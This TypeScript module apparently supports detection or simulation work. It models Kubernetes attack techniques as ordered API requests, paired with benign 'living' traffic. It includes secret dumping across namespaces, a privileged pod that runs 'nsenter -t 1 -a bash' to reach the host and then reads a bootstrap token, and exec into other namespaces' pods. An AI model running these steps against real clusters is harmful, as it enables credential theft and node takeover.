/**
 * Attacks as data: what is done, in order. After stratus-red-team's techniques and the ATT&CK Containers matrix.
 * Refuses to know who does it and from where.
 */
import type { Prey, Scenario } from './attack.ts';
import { stepsOf } from './commands.ts';
import type { Step } from './request.ts';
import type { Namespace } from './scene.ts';

const whoAmI: readonly Step[] = [
  { verb: 'get', resource: null, path: '/api', query: 'timeout=32s' },
  { verb: 'create', resource: 'selfsubjectreviews' },
  { verb: 'create', resource: 'selfsubjectrulesreviews' },
];
const everywhere = (resource: string): Step => ({ verb: 'list', resource, query: 'limit=500' });
const within = (resource: string, { name }: Namespace): Step => ({
  verb: 'list',
  resource,
  namespace: name,
  query: 'limit=500',
});
/** Commands of daily life in one namespace after the other. */
const daily = (prey: Prey, spaces: readonly Namespace[], ...names: string[]): Step[] =>
  spaces.flatMap((space) => names.flatMap((name) => stepsOf(name, prey.at(space))));

export const dumpSecrets: Scenario = {
  id: 'dump-secrets',
  technique: 'T1552.007',
  steps: (prey) => [
    ...whoAmI,
    everywhere('namespaces'),
    everywhere('secrets'),
    ...[prey.system, ...prey.others.slice(0, 3)].flatMap((space) => [
      within('secrets', space),
      ...space.secrets
        .slice(0, 3)
        .map((name): Step => ({ verb: 'get', resource: 'secrets', namespace: space.name, name })),
    ]),
  ],
  living: {
    command: 'get secrets',
    steps: (prey) =>
      daily(prey, prey.others.slice(0, 4), 'get secrets', 'get secret', 'get secret', 'get configmap'),
  },
};

export const privilegedPod: Scenario = {
  id: 'privileged-pod',
  technique: 'T1611',
  steps: (prey) => {
    const at = { resource: 'pods', namespace: prey.system.name, name: 'node-checker' };
    return [
      ...whoAmI,
      everywhere('nodes'),
      within('pods', prey.system),
      {
        verb: 'create',
        ...at,
        query: 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
        body: {
          kind: 'Pod',
          image: 'docker.io/library/alpine:3',
          dangerous: ['privileged', 'hostPID', 'hostPath'],
          applied: true,
        },
      },
      { verb: 'get', ...at },
      {
        verb: prey.minor >= 30 ? 'get' : 'create',
        ...at,
        subresource: 'exec',
        seconds: 900,
        query:
          'command=nsenter&command=-t&command=1&command=-a&command=bash&container=main&stdin=true&stdout=true&tty=true',
      },
      { verb: 'get', resource: 'secrets', namespace: prey.system.name, name: 'bootstrap-token-4ad1pq' },
      { verb: 'delete', ...at },
    ];
  },
};

export const execElsewhere: Scenario = {
  id: 'exec-elsewhere',
  technique: 'T1609',
  steps: (prey) => [
    ...whoAmI,
    ...daily(prey, prey.others.slice(0, 3), 'get pods', 'exec', 'exec', 'get secrets'),
  ],
  living: {
    command: 'exec',
    steps: (prey) => daily(prey, prey.others.slice(0, 3), 'get pods', 'describe pod', 'exec', 'logs'),
  },
};

export const scenarios: readonly Scenario[] = [dumpSecrets, privilegedPod, execElsewhere];
